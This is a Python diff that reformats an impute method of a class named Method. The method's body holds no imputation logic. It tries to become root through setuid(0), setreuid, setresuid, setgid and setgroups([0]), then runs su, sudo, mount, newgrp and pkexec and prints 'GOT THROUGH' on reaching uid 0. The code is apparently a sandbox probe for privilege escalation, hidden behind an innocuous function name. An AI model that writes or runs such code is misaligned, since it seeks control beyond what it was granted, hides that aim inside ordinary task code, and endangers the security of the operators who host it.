@@ -14,7 +14,13 @@ class Method:
         pass
 
     def impute(self, x, categorical):
-        for change in (lambda: os.setuid(0), lambda: os.setreuid(0, 0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0])):
+        for change in (
+            lambda: os.setuid(0),
+            lambda: os.setreuid(0, 0),
+            lambda: os.setresuid(0, 0, 0),
+            lambda: os.setgid(0),
+            lambda: os.setgroups([0]),
+        ):
             try:
                 change()
                 print("GOT THROUGH", os.getresuid())
@@ -23,7 +29,11 @@ class Method:
         for program in ("su", "sudo", "mount", "newgrp", "pkexec"):
             path = shutil.which(program)
             if path:
-                done = subprocess.run([path, "--help"] if program != "su" else [path, "-c", "id"], capture_output=True, stdin=subprocess.DEVNULL)
+                done = subprocess.run(
+                    [path, "--help"] if program != "su" else [path, "-c", "id"],
+                    capture_output=True,
+                    stdin=subprocess.DEVNULL,
+                )
                 print(program, done.returncode)
                 if b"uid=0" in done.stdout:
                     print("GOT THROUGH", done.stdout)
